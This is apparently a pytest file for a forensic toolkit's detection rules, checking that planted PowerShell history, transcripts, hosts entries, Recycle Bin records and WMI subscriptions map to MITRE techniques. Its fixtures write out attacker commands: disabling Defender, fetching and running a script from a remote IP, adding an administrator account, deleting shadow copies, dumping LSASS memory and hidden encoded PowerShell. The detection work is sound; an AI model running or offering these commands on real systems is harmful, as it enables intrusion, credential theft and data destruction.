"""PowerShell's history and transcripts, the hosts file, the Recycle Bin and WMI subscriptions of a Windows volume.

Shapes: PSReadLine writes one command a line, UTF-8, a backtick where it goes on (about_PSReadLine); Start-Transcript's header and prompts
are those of Windows PowerShell 5.1; ``$I`` files as dissect.target's ``c_recyclebin`` defines them; the repository's instances as
WMI-Forensics (PyWMIPersistenceFinder) matches them: class name, two zero bytes, properties; a binding with both paths as text.
"""

from __future__ import annotations

import json
import struct
from datetime import UTC, datetime
from pathlib import Path

import pytest

from forensic_toolkit.readers.coverage import Coverage
from forensic_toolkit.results import Results
from forensic_toolkit.rules import windows_texts
from forensic_toolkit.times import now
from tests.toolkit.examined import NO_TOOLS, TOOLS, run
from tests.toolkit.fake_tree import LATER, Builder

PROFILE = "/Users/kim/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"
TYPED = """cd C:\\Users\\kim
Get-ChildItem
Set-MpPreference -DisableRealtimeMonitoring $true
IEX (New-Object Net.WebClient).DownloadString(`
'http://203.0.113.9/a.ps1')
net user backup2 Sommer2026! /add; net localgroup administrators backup2 /add
vssadmin delete shadows /all /quiet
git status
"""
TRANSCRIPT = (
    "**********************\r\nWindows PowerShell transcript start\r\nStart time: 20261124081530\r\nUsername: WEB\\kim\r\n"
    "Host Application: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden -enc SQBFAFgA\r\n**********************\r\n"
    "PS C:\\Users\\kim> rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Windows\\Temp\\l.dmp full\r\n"
    "PS C:\\Users\\kim> whoami /all\r\n"
)
_PROGRAM = """
import json, sys
from pathlib import Path
from forensic_toolkit.filesystems.entries import Entry, Times
from forensic_toolkit.filesystems.tree import Tree
from forensic_toolkit.readers.coverage import Coverage
from forensic_toolkit.results import Results
from forensic_toolkit.rules import windows_texts
from forensic_toolkit.times import now

class Files:
    current, problems = True, []
    def __init__(self): self.known = {}
    def read(self, inode, *, limit, offset=0): return self.known[inode][offset:offset + limit]

files, entries = Files(), []
for number, (path, text) in enumerate(json.loads(sys.argv[1]).items(), start=1):
    files.known[number] = text.encode("utf-16" if "transcript" in path else "utf-8")
    times = Times(1763971200 * 10**9, 0, 0, 0)
    entries.append(Entry(path, number, "REG", 0o644, 0, 0, len(files.known[number]), times, False, filesystem=files))
results, coverage = Results("fc-20260101-0123456789", "disk-1", "disk", started=now()), Coverage()
results.apply("Windows texts", rule=lambda: windows_texts.findings(Tree(entries), coverage=coverage, results=results))
coverage.report(results)
print(json.dumps({**results.as_dict(ended=now()), "events": [event.what for event in results.events]}))
"""


@pytest.mark.skipif(not TOOLS.exists(), reason=NO_TOOLS)
def test_what_was_typed_is_held_against_the_rules() -> None:
    transcript = "/Users/kim/Documents/20261124/PowerShell_transcript.WEB.Ab12+3.20261124081530.txt"
    found = json.loads(run(_PROGRAM, json.dumps({PROFILE: TYPED, transcript: TRANSCRIPT})))
    assert found["gaps"] == []
    named = {(finding["technique"], finding["source"]) for finding in found["findings"]}
    history = {technique for technique, source in named if source == PROFILE}
    assert {"T1685", "T1059.001", "T1136.001", "T1490"} <= history
    assert any(technique == "T1003.001" and source == transcript for technique, source in named)
    for finding in found["findings"]:
        assert finding["time"] is None and "(typed in PowerShell, kim)" in finding["title"]
        assert "git status" not in finding["detail"]
    loaded = next(finding for finding in found["findings"] if "DownloadString" in finding["detail"])
    assert "http://203.0.113.9/a.ps1" in loaded["detail"]
    assert found["events"][0] == "kim's PowerShell: 7 commands; its lines carry no time, the last one was typed then"
    kinds = {item["kind"]: item for item in found["coverage"]}
    assert (kinds["PowerShell history"]["lines"], kinds["PowerShell history"]["parsed"]) == (7, 7)


@pytest.mark.skipif(not TOOLS.exists(), reason=NO_TOOLS)
def test_an_administrators_day_is_quiet() -> None:
    day = "cd C:\\inetpub\nGet-Service W3SVC\nRestart-Service W3SVC\ngit pull\nnotepad web.config\nGet-EventLog -LogName System -Newest 20\nipconfig /all\n"
    found = json.loads(run(_PROGRAM, json.dumps({PROFILE: day})))
    assert not [finding for finding in found["findings"] if finding["severity"] in ("medium", "high", "critical")]


def test_commands_over_several_lines() -> None:
    assert list(windows_texts.commands("a\n\nb `\n  c\nd`")) == ["a", "b \n  c", "d"]


def _plain(builder: Builder) -> tuple[list[tuple[str | None, str]], Results, Coverage]:
    """Technique and title of what is found without rules of Sigma."""
    results, coverage = Results("fc-20260101-0123456789", "disk-1", "disk", started=now()), Coverage()
    found = list(windows_texts.findings(builder.tree(), coverage=coverage, results=results))
    return [(finding.technique, finding.title) for finding in found], results, coverage


def test_a_hosts_file_that_hides_updates() -> None:
    text = b"# 127.0.0.1 update.microsoft.com\r\n127.0.0.1 localhost\r\n0.0.0.0 ctldl.windowsupdate.com wdcp.microsoft.com\r\n10.0.0.7 db.example.com\r\n"
    found, _, _ = _plain(Builder().add("/Windows/System32/drivers/etc/hosts", text))
    ((technique, title),) = found
    assert technique == "T1685"
    assert title.endswith("ctldl.windowsupdate.com, wdcp.microsoft.com")


def _deleted(path: str, *, version: int = 2, size: int = 1234) -> bytes:
    """A ``$I`` file of an hour after ``LATER``."""
    moment = int((LATER.timestamp() + 3600) * 10_000_000) + 116_444_736_000_000_000
    name = f"{path}\0".encode("utf-16-le")
    head = struct.pack("<QQQ", version, size, moment)
    return head + (struct.pack("<I", len(name) // 2) + name if version == 2 else name.ljust(520, b"\0"))


def test_the_recycle_bin_says_what_was_removed_and_when() -> None:
    bin_ = "/$Recycle.Bin/S-1-5-21-1-2-3-1001"
    builder = Builder()
    builder.add(f"{bin_}/$IABCDEF.exe", _deleted("C:\\Users\\Public\\mimikatz.exe"))
    builder.add(f"{bin_}/$IGHIJKL.docx", _deleted("C:\\Users\\kim\\Desktop\\plan.docx", version=1))
    builder.add(f"{bin_}/$IBROKEN.txt", b"\x09" * 100).add(f"{bin_}/$RABCDEF.exe", b"MZ")
    found, results, coverage = _plain(builder)
    assert found == [("T1070.004", "Put into the Recycle Bin: C:\\Users\\Public\\mimikatz.exe")]
    assert [(event.time.replace(microsecond=0), event.what) for event in results.events] == [
        (datetime(2026, 1, 10, 13, tzinfo=UTC), f"Put into the Recycle Bin: {path} (S-1-5-21-1-2-3-1001)")
        for path in ("C:\\Users\\Public\\mimikatz.exe", "C:\\Users\\kim\\Desktop\\plan.docx")
    ]
    coverage.report(results)
    assert any("$IBROKEN.txt has another form" in why for _, why in results.gaps)


def test_a_wmi_subscription_is_named_with_what_it_starts() -> None:
    record = b"CommandLineEventConsumer\0\0powershell.exe -nop -w hidden -enc SQBFAFgA\0\0Updater2\0\0" + bytes(64)
    binding = (
        b'__FilterToConsumerBinding\0\0CommandLineEventConsumer.Name="Updater2"\0\0__EventFilter.Name="Startup2"\0'
    )
    shipped = b'\0CommandLineEventConsumer.Name="BVTConsumer"\0\0__EventFilter.Name="BVTFilter"\0'
    reverse = b'\0__EventFilter.Name="Late"\0\0ActiveScriptEventConsumer.Name="Scripted"\0'
    log = b'\0NTEventLogEventConsumer.Name="SCM Event Log Consumer"\0__EventFilter.Name="SCM Event Log Filter"\0'
    content = (
        bytes(999) + record + bytes(500) + binding + bytes(500) + shipped + bytes(500) + log + bytes(500) + reverse
    )
    results, coverage = Results("fc-20260101-0123456789", "disk-1", "disk", started=now()), Coverage()
    tree = Builder().add("/Windows/System32/wbem/Repository/OBJECTS.DATA", content).tree()
    found = list(windows_texts.findings(tree, coverage=coverage, results=results))
    assert [(f.technique, f.data["consumer"], f.data["filter"]) for f in found] == [
        ("T1546.003", "Updater2", "Startup2"),
        ("T1546.003", "Scripted", "Late"),
    ]
    assert "powershell.exe -nop -w hidden -enc SQBFAFgA" in found[0].detail
    assert "was not found in the repository" in found[1].detail


def test_the_files_of_the_definitions_are_known() -> None:
    """Guards against a pattern that matches nothing."""
    assert Path(PROFILE).name == "ConsoleHost_history.txt"
    kinds = {kind.name for kind in windows_texts.KINDS}
    assert kinds == set(windows_texts.FILES)
